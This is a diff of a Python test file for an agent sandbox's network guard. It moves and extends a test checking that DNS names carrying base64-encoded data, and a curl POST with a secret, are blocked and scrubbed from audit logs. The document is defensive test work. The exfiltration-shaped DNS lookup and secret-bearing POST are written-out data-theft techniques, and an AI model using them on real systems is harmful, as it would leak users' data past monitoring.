@@ -376,33 +376,6 @@ def test_agent_resolver_is_only_the_egress(bottle, client):
     assert "answers 0" in out or "no answer" in out, out
 
 
-def test_dns_goes_through_the_guard_and_exfiltration_names_never_leave(bottle,
-                                                                        world: OutsideWorld):
-    agent = bottle["agent"]
-    # an allowed name resolves, through the guard, at the upstream resolver
-    code, out = run_in(agent, "getent hosts allowed.test")
-    assert code == 0 and world.origin_ip in out, out
-    assert "allowed.test" in world.resolver_queries()
-    # an exfiltration-shaped name under an allowed domain: NXDOMAIN, never forwarded
-    exfil = "aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgZXhmaWw.x7f3k9q2.allowed.test"
-    code, out = run_in(agent, f"getent hosts {exfil}")
-    assert code != 0, out
-    # a name the policy does not allow at all: the same
-    code, out = run_in(agent, "getent hosts denied.test")
-    assert code != 0, out
-    queried = world.resolver_queries()
-    assert exfil not in queried and "denied.test" not in queried, queried
-    events = [json.loads(line) for line in bottle_cli("logs", NAME, "--audit", "--json")
-              .stdout.splitlines() if line.strip()]
-    blocked = [e for e in events if e.get("event") == "dns" and e.get("verdict") == "block"]
-    # decided by the hostname scanner; the encoded labels are scrubbed from the audit log
-    exfil_events = [e for e in blocked if any(f.get("rule") == "encoded-hostname"
-                                              for f in e["findings"])]
-    assert exfil_events, [(e.get("host"), e.get("findings")) for e in blocked]
-    assert all(e["host"].endswith(".allowed.test") for e in exfil_events)
-    assert exfil.split(".")[0] not in json.dumps(events)
-
-
 def test_secret_in_post_body_is_blocked(bottle, world: OutsideWorld):
     _, out = curl(bottle["agent"], "-i", "-X", "POST", "--data", f"note={DLP_SECRET}",
                   "https://allowed.test/upload")
@@ -437,6 +410,40 @@ def test_credential_placeholder_is_swapped_on_the_way_to_its_host(bottle, world:
     code, out = run_in(agent, f"grep -rl '{REAL_TOKEN}' /etc /root /home /tmp /workspace "
                        "2>/dev/null; env | grep -c BOTTLE_E2E_REAL_TOKEN", user="0")
     assert out.strip() == "0", out
+
+
+def test_dns_goes_through_the_guard_and_exfiltration_names_never_leave(bottle,
+                                                                        world: OutsideWorld):
+    agent = bottle["agent"]
+    # an allowed name resolves, through the guard, at the upstream resolver
+    code, out = run_in(agent, "getent hosts allowed.test")
+    assert code == 0 and world.origin_ip in out, out
+    assert "allowed.test" in world.resolver_queries()
+    code, out = run_in(agent, "getent hosts api.allowed.test")
+    assert code == 0 and world.origin_ip in out, out
+    # an exfiltration-shaped name under an allowed domain: NXDOMAIN, never forwarded
+    exfil = "aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgZXhmaWw.x7f3k9q2.allowed.test"
+    code, out = run_in(agent, f"getent hosts {exfil}")
+    assert code != 0, out
+    # a name the policy does not allow at all: the same
+    code, out = run_in(agent, "getent hosts denied.test")
+    assert code != 0, out
+    queried = world.resolver_queries()
+    assert exfil not in queried and "denied.test" not in queried, queried
+    events = [json.loads(line) for line in bottle_cli("logs", NAME, "--audit", "--json")
+              .stdout.splitlines() if line.strip()]
+    blocked = [e for e in events if e.get("event") == "dns" and e.get("verdict") == "block"]
+    # decided by the hostname scanner; the encoded labels are scrubbed from the audit log
+    exfil_events = [e for e in blocked if any(f.get("rule") == "encoded-hostname"
+                                              for f in e["findings"])]
+    assert exfil_events, [(e.get("host"), e.get("findings")) for e in blocked]
+    assert all(e["host"].endswith(".allowed.test") for e in exfil_events)
+    assert exfil.split(".")[0] not in json.dumps(events)
+    # the zone that was sent encoded data is the tunnel's: closed to every other name for the
+    # budget's window, one asked and answered before included (so this test runs after every
+    # test that needs a name under allowed.test)
+    code, out = run_in(agent, "getent hosts api.allowed.test")
+    assert code != 0, out
 
 
 def test_ca_private_key_is_nowhere_in_the_agent(bottle, client):
